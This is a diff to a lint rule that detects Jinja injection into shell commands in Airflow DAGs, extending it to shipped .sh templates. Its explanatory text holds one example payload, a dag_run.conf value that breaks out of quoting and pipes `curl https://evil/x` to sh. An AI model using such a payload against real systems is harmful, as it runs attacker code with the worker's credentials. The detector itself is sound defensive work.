@@ -101,7 +101,7 @@ export default defineRule({
     aliases: [],
     docs: {
       what:
-        'Finds Jinja expressions that interpolate values controlled by others into a command that a shell interprets: `BashOperator`/`BashSensor` `bash_command` (all import paths, Airflow 1–3), `SSHOperator` and `WinRMOperator` `command`, the return value of `@task.bash` functions, `DockerOperator` `command` when run by `sh -c` (in the command or the entrypoint) — a string `command` without a shell is split at spaces into the container\'s arguments, where `dag_run.conf` values can still add options: *medium* — and the script after `-c` of a `KubernetesPodOperator` whose `cmds`/`arguments` start with a shell.\n\n' +
+        'Finds Jinja expressions that interpolate values controlled by others into a command that a shell interprets: `BashOperator`/`BashSensor` `bash_command` (all import paths, Airflow 1–3), `SSHOperator` and `WinRMOperator` `command`, the return value of `@task.bash` functions, `DockerOperator` `command` when run by `sh -c` (in the command or the entrypoint) — a string `command` without a shell is split at spaces into the container\'s arguments, where `dag_run.conf` values can still add options: *medium* — and the script after `-c` of a `KubernetesPodOperator` whose `cmds`/`arguments` start with a shell; and `.sh` files shipped with the DAGs, the templates of `bash_command="x.sh "` (there `dag_run.conf` only).\n\n' +
         'Sources: `dag_run.conf…`, `triggering_asset_events`/`triggering_dataset_events` (asset events can be created through the REST API) — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` and `inlet_events[…]` extras (written by the producing task, like an XCom) — *medium*; `var.value…`/`var.json…`/`conn…` — *low* (editable in the UI by users who may not be allowed to run code). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"` — unless the script evaluates the variable again (`eval "$VAR"`, `sh -c "$VAR"`, `$($VAR)`, `$VAR` in command position), which is reported on the `env` value.',
       why:
         'Airflow renders the template and hands the result to `bash -c`. A `dag_run.conf` value such as `x"; curl https://evil/x | sh; echo "` breaks out of any quoting and runs on the worker with its credentials. Anyone with permission to trigger the DAG (UI, REST API, a `TriggerDagRunOperator` fed by data) controls `conf` and, by default, `params`.',
@@ -112,4 +112,16 @@ export default defineRule({
     },
   },
   ...shellScriptMatchers(check),
+  // `.sh` files shipped with the DAGs are the templates of `bash_command="scripts/run.sh "`: rendered as Jinja
+  onDataFile(ctx) {
+    if (ctx.file.dataKind !== 'shell' || !/dag_run|triggering_/.test(ctx.file.text)) return;
+    const name = ctx.file.path.split('/').pop()!;
+    for (const e of jinjaExpressions(ctx.file.text)) {
+      const k = classifyJinja(e.expr);
+      // only trigger input: params may be validated by the DAG that renders the file, which is not known here
+      if (k.trust !== 'user' || k.viaParams) continue;
+      const expr = e.expr.length > 60 ? e.expr.slice(0, 57) + '…' : e.expr;
+      ctx.reportRange(e.start, e.end, { label: `the shell script \`${name}\` (a \`bash_command\` template)`, expr, why: k.why }, { key: `${name} ${e.expr}` });
+    }
+  },
 });
